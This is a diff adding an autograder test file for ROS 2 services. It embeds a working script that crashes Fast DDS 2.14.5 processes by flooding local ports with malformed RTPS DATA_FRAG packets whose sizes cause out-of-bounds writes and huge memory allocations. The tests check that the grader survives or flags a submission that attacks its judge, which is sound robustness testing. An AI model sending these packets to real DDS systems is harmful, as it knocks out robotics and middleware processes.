@@ -1,0 +1,75 @@
+"""A program that speaks RTPS itself brings down the process that hears it, and gains nothing by it.
+
+In Fast DDS 2.14.5 a DATA_FRAG submessage (RTPS 2.3, 9.4.5.4) is believed in what it says of sizes: the list of missing
+fragments is written beyond the end of the sample, and memory is taken for a sample that never comes.
+"""
+
+import pytest
+
+from autograder.records import GRADED, KILLED_JUDGE, NOT_RUN
+from tests.autograder.answers.services import REFERENCE
+
+ATTACK = """
+import os, socket, struct, time
+import rclpy
+
+def attack(node, sizes):
+    while not node.count_subscribers('/rosout'):
+        rclpy.spin_once(node, timeout_sec=0.05)
+    node.get_logger().info('hello')
+    own = [found for found in node.get_publishers_info_by_topic('/rosout') if found.node_name == node.get_name()]
+    writer, port = bytes(own[0].endpoint_gid)[:16], 7400 + 250 * int(os.environ['ROS_DOMAIN_ID']) + 11
+    out, end, number = socket.socket(socket.AF_INET, socket.SOCK_DGRAM), time.time() + 4, 2
+    while time.time() < end:
+        for fragment, sample in sizes:
+            body = struct.pack('<HH4s4siIIHHI', 0, 28, bytes(4), writer[12:], 0, number, 1, 1, fragment, sample)
+            body += b'A' * max(8, fragment)
+            head = b'RTPS' + bytes([2, 3, 1, 15]) + writer[:12] + struct.pack('<BBH', 0x16, 1, len(body))
+            for participant in range(3):
+                out.sendto(head + body, ('127.0.0.1', port + 2 * participant))
+            number += 1
+        rclpy.spin_once(node, timeout_sec=0.01)
+
+class Attacker(rclpy.node.Node):
+    def __init__(self, *args, **kwargs):
+        super().__init__(*args, **kwargs)
+        attack(self, {sizes})
+
+"""
+SIZES = {
+    "writes beyond a sample": "[(1, 16 * n + 6) for n in range(80, 3000, 97)] + [(5, 101), (5, 151)]",
+    "takes memory for a sample": "[(1024, 200_000_000)]",
+}
+
+
+def attacking(sizes: str) -> dict[str, bytes]:
+    """The right answer, but that each of its nodes attacks before it does anything else."""
+    text = REFERENCE["motor_service.py"].decode()
+    assert "(Node)" in text
+    head = (
+        ATTACK.replace("{sizes}", sizes)
+        .replace("rclpy.node.Node", "Node")
+        .replace("import rclpy\n", "import rclpy\nfrom rclpy.node import Node\n", 1)
+    )
+    return REFERENCE | {"motor_service.py": (head + text.replace("(Node)", "(Attacker)")).encode()}
+
+
+@pytest.fixture(scope="module")
+def reports(grade):
+    """The gradings, all begun at once, with an honest one among them."""
+    begun = {name: grade(attacking(sizes), "services") for name, sizes in SIZES.items()}
+    return begun | {"honest": grade(REFERENCE, "services")}
+
+
+@pytest.mark.parametrize("name", SIZES)
+def test_it_is_judged(reports, name):
+    """Whether its judge outlives it is a matter of luck and of Fast DDS's version: it is judged in either case."""
+    report = reports[name].result()
+    assert report.status == GRADED
+    not_run = [test.id for test in report.tests if test.outcome == NOT_RUN]
+    assert report.flags == ([KILLED_JUDGE] if not_run else [])
+
+
+def test_others_are_not_disturbed(reports):
+    report = reports["honest"].result()
+    assert (report.score, [test.message for test in report.tests if test.message]) == (report.max_score, [])
